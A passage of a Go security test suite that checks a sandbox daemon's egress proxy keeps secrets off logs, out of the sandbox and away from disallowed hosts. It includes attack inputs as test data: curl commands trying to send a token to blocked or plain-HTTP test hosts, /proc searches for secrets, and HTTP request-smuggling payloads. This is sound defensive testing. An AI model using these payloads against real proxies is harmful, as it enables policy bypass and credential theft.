		return fmt.Errorf("PUT network: %d %s", st, b)
	}
	e.inet.Reset()
	time.Sleep(4 * time.Second)
	out := e.sh(r.state["a"], "cat /tmp/held.log").Stdout
	if strings.Contains(out, "second b'HTTP/1.1 200") {
		r.breach("a connection opened before the change went on: %q", out)
	}
	for _, ev := range e.inet.HTTPRequests("allowed.test") {
		r.breach("after the change, the far end saw %s", ev)
	}
	e.blocked(r.state["a"], nwCurl+"http://allowed.test/", "a new flow to a newly denied host", httpHost("allowed.test"))
	return nil
}

// NW-12: a proxy-mode secret goes only to its hosts, over TLS, and never
// into the sandbox.
const nw12Value = "s3cr3t-NW12-VALUE-7f3a"

func nw12Setup(r *run) error {
	e := r.nw()
	st, b := e.d.api("POST", "/v1/secrets", map[string]any{"name": "api-token", "value": nw12Value, "mode": "proxy", "hosts": []string{"allowed.test"}})
	if st != 201 {
		return fmt.Errorf("setting the secret: %d %s", st, b)
	}
	st, b = e.d.api("POST", "/v1/sandboxes", map[string]any{
		"network": map[string]any{"mode": "allowlist", "allow": []string{"allowed.test", "*.allowed.test", "blocked.test"}},
		"secrets": map[string]string{"TOKEN": "api-token"}})
	if st != 201 {
		return fmt.Errorf("creating the sandbox: %d %s", st, b)
	}
	var sb struct{ ID string }
	json.Unmarshal(b, &sb)
	r.state["id"] = sb.ID
	// The client trusts the fake internet's CA and, as every sandbox does
	// (it is in its system bundle), the daemon's.
	if st, b := e.d.api("PUT", "/v1/sandboxes/"+sb.ID+"/files/write", map[string]any{"path": "/tmp/fake.pem", "content": string(e.inet.CACertPEM)}); st != 200 {
		return fmt.Errorf("writing the CA: %d %s", st, b)
	}
	if out := e.sh(sb.ID, "cat /tmp/fake.pem /etc/ssl/certs/sbx-egress-ca.pem > /tmp/ca.pem && grep -c 'BEGIN CERTIFICATE' /tmp/ca.pem"); strings.TrimSpace(out.Stdout) != "2" {
		return fmt.Errorf("the daemon's CA in the sandbox: %q %q", out.Stdout, out.Stderr)
	}
	return nil
}

// sawValue: a far-end request carrying the secret's value.
func sawValue(ev fakenet.Event) bool {
	for _, vs := range ev.Header {
		for _, v := range vs {
			if strings.Contains(v, nw12Value) {
				return true
			}
		}
	}
	return strings.Contains(string(ev.Data), nw12Value)
}

func nw12Control(r *run) error {
	e := r.nw()
	return e.control(r.state["id"], nwCurl+`-H "Authorization: Bearer $TOKEN" https://allowed.test/echo`, "the secret over TLS to its host", func(ev fakenet.Event) bool {
		return ev.Kind == fakenet.KindHTTP && strings.EqualFold(ev.Name, "allowed.test") && sawValue(ev)
	})
}

func nw12Attack(r *run) error {
	e := r.nw()
	id := r.state["id"]
	for _, p := range []string{
		nwCurl + `-H "Authorization: Bearer $TOKEN" http://allowed.test/echo`,
		nwCurl + `--noproxy '*' -H "Authorization: Bearer $TOKEN" http://allowed.test/echo`,
		nwCurl + `-H "Authorization: Bearer $TOKEN" https://www.allowed.test/echo`,
		nwCurl + `-H "Authorization: Bearer $TOKEN" https://blocked.test/echo`,
		nwCurl + `-L -H "Authorization: Bearer $TOKEN" 'https://allowed.test/redirect?to=https://blocked.test/echo'`,
		nwCurl + `-L -H "Authorization: Bearer $TOKEN" 'https://allowed.test/redirect?to=http://allowed.test/echo'`,
		nwCurl + `-H "X-Token: $TOKEN" -d "$TOKEN" https://www.allowed.test/echo`,
		nwCurl + `-H "X-Token: $TOKEN" http://www.allowed.test/echo`,
	} {
		// The value may reach allowed.test over TLS (the redirects' first
		// hop): nowhere else.
		e.blocked(id, p, "secret: "+p, func(ev fakenet.Event) bool {
			return sawValue(ev) && !(strings.EqualFold(ev.Name, "allowed.test") && ev.TLS)
		})
	}
	// The value is nowhere in the sandbox: its environment shows a
	// placeholder, and no file or process of it holds the value.
	out := e.sh(id, `printenv TOKEN; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -c `+nw12Value+`; grep -rls `+nw12Value+` /etc /tmp /workspace /root 2>/dev/null | head -3`)
	if strings.Contains(out.Stdout, nw12Value) || !strings.HasPrefix(out.Stdout, "sbx-secret-") {
		r.breach("the sandbox sees the value: %q", out.Stdout)
	}
	// The attempts to send it elsewhere are logged; the value is not.
	_, b := e.d.api("GET", "/v1/sandboxes/"+id+"/network/events", nil)
	if !strings.Contains(string(b), "over plain HTTP: not substituted") || !strings.Contains(string(b), "not one of its hosts: not substituted") {
		return fmt.Errorf("the refused substitutions are not among the events: %.2000s", b)
	}
	if strings.Contains(string(b), nw12Value) || strings.Contains(e.d.log.String(), nw12Value) {
		r.breach("the value is in the events or the daemon's log")
	}
	return nil
}

// AP-05: secrets in logs. A sandbox gets an env-mode and a proxy-mode secret,
// every way they can be used is exercised, and then the daemon's log, the
// audit log, the data dir's files, the daemon's and its helpers' argv and
// environment and every API answer are searched for the values: zero hits,
// while the secrets' names, sent the same ways, are found (the control).
func ap05Setup(r *run) error {
	e := r.nw()
	r.state["env-value"] = "ap05-env-VALUE-" + randHex(12)
	r.state["proxy-value"] = "ap05-proxy-VALUE-" + randHex(12)
	r.state["env-name"], r.state["proxy-name"] = "ap05-env-"+randHex(4), "ap05-proxy-"+randHex(4)
	for _, s := range []map[string]any{
		{"name": r.state["env-name"], "value": r.state["env-value"]},
		{"name": r.state["proxy-name"], "value": r.state["proxy-value"], "mode": "proxy", "hosts": []string{"allowed.test"}},
	} {
		if st, b := e.d.api("POST", "/v1/secrets", s); st != 201 {
			return fmt.Errorf("setting a secret: %d %s", st, b)
		}
	}
	st, b := e.d.api("POST", "/v1/sandboxes", map[string]any{
		"network": map[string]any{"mode": "allowlist", "allow": []string{"allowed.test"}},
		"secrets": map[string]string{"ENVSECRET": r.state["env-name"], "PROXYSECRET": r.state["proxy-name"]}})
	r.record(b)
	if st != 201 {
		return fmt.Errorf("create: %d %s", st, b)
	}
	var sb struct{ ID string }
	json.Unmarshal(b, &sb)
	r.state["id"] = sb.ID
	if st, b := e.d.api("PUT", "/v1/sandboxes/"+sb.ID+"/files/write", map[string]any{"path": "/tmp/fake.pem", "content": string(e.inet.CACertPEM)}); st != 200 {
		return fmt.Errorf("writing the CA: %d %s", st, b)
	}
	e.sh(sb.ID, "cat /tmp/fake.pem /etc/ssl/certs/sbx-egress-ca.pem > /tmp/ca.pem")
	return nil
}

func ap05Control(r *run) error {
	e := r.nw()
	id := r.state["id"]
	// Every use: the sandbox's env, an exec's, sandbox.exec's handle, the
	// proxy's substitution (allowed.test receives the proxy value), a
	// refused substitution (plain HTTP), a failing exec that prints env.
	e.sh(id, `curl -sS -m 5 --cacert /tmp/ca.pem -H "Authorization: Bearer $PROXYSECRET" https://allowed.test/echo > /dev/null; curl -sS -m 5 -H "X: $PROXYSECRET" http://allowed.test/echo > /dev/null`)
	st, b := e.d.api("POST", "/v1/sandboxes/"+id+"/exec", map[string]any{"command": `test -n "$E2" && exit 3`, "secrets": map[string]string{"E2": r.state["env-name"]}})
	r.record(b)
	if st != 200 || !strings.Contains(string(b), `"exit_code":3`) {
		return fmt.Errorf("exec with a secret: %d %s", st, b)
	}
	st, b = e.d.api("POST", "/v1/sandboxes/"+id+"/tools/sandbox.exec", map[string]any{"runtime": "sh", "code": `test -n "$K"`, "secrets": map[string]string{"K": "{{secret:" + r.state["env-name"] + "}}"}})
	r.record(b)
	if st != 200 {
		return fmt.Errorf("sandbox.exec with a handle: %d %s", st, b)
	}
	received := false
	for _, ev := range e.inet.HTTPRequests("allowed.test") {
		received = received || strings.Contains(ev.Header.Get("Authorization"), r.state["proxy-value"])
	}
	if !received {
		return fmt.Errorf("control: allowed.test never received the proxy-mode secret")
	}
	_, audit := e.d.api("GET", "/v1/audit?limit=1000", nil)
	for _, name := range []string{r.state["env-name"], r.state["proxy-name"]} {
		if !strings.Contains(string(audit), name) || !strings.Contains(e.d.log.String(), name) {
			return fmt.Errorf("control: the secret name %s is not in the audit log and the daemon's log", name)
		}
	}
	return nil
}

func ap05Attack(r *run) error {
	e := r.nw()
	_, audit := e.d.api("GET", "/v1/audit?limit=1000", nil)
	_, events := e.d.api("GET", "/v1/sandboxes/"+r.state["id"]+"/network/events", nil)
	places := map[string][]byte{"daemon log": []byte(e.d.log.String()), "audit log": audit, "network events": events}
	r.mu.Lock()
	places["API answers"] = append([]byte{}, r.recorded.Bytes()...)
	r.mu.Unlock()
	pids := []string{fmt.Sprint(e.d.cmd.Process.Pid)}
	if out, err := exec.Command("pgrep", "-f", "__sbx_spawner").Output(); err == nil {
		pids = append(pids, strings.Fields(string(out))...)
	}
	for _, pid := range pids {
		for _, f := range []string{"cmdline", "environ"} {
			b, _ := os.ReadFile("/proc/" + pid + "/" + f)
			places["/proc/"+pid+"/"+f] = b
		}
	}
	filepath.WalkDir(e.d.dataDir, func(p string, de os.DirEntry, err error) error {
		if err != nil || de.IsDir() {
			if de != nil && de.IsDir() && (de.Name() == "backends" || de.Name() == "layers") {
				return filepath.SkipDir // the sandboxes' own files: they may hold an env value
			}
			return nil
		}
		if fi, err := de.Info(); err == nil && fi.Mode().IsRegular() && fi.Size() < 64<<20 {
			b, _ := os.ReadFile(p)
			places["file "+p] = b
		}
		return nil
	})
	for where, b := range places {
		for _, v := range []string{r.state["env-value"], r.state["proxy-value"]} {
			if strings.Contains(string(b), v) {
				r.breach("a secret's value is in %s", where)
			}
		}
	}
	return nil
}

// AP-08: request smuggling through the egress proxy (CL.TE, TE.TE,
// obfuscated Transfer-Encoding); the smuggled request must never reach a
// host the rules deny, nor arrive unjudged.
func ap08Setup(r *run) error {
	r.state["allow"] = r.nw().allowlist()
	return nil
}

const ap08Probe = `python3 - <<'PY'
import socket
s = socket.create_connection(("198.18.1.10", 80), 5)
s.sendall(%s)
s.settimeout(3)
try:
    while True:
        b = s.recv(4096)
        if not b: break
        print(b)
except Exception as e:
    print("end", e)
PY`

func ap08Control(r *run) error {
	return r.nw().control(r.state["allow"], fmt.Sprintf(ap08Probe, `b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhello"`), "a plain POST", httpHost("allowed.test"))
}

func ap08Attack(r *run) error {
	e := r.nw()
	for name, payload := range map[string]string{
		"CL.TE":               `b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: blocked.test\r\n\r\n"`,
		"TE.CL":               `b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\nGET /smuggled HTTP/1.1\r\nHost: blocked.test\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"`,
		"TE.TE obfuscated":    `b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: x\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: blocked.test\r\n\r\n"`,
		"two Content-Lengths": `b"POST /echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: blocked.test\r\n\r\n"`,
		"CRLF in a header":    `b"GET /echo HTTP/1.1\r\nHost: allowed.test\r\nX-A: 1\rHost: blocked.test\r\n\r\n"`,
	} {
		e.blocked(r.state["allow"], fmt.Sprintf(ap08Probe, payload), "smuggling "+name, func(ev fakenet.Event) bool {
			return strings.EqualFold(ev.Name, "blocked.test") || ev.Local.Addr() == fakenet.BlockedAddr ||
				ev.Kind == fakenet.KindHTTP && strings.Contains(ev.Path, "smuggled") && !strings.EqualFold(ev.Name, "allowed.test")
		})
	}
	return nil
}
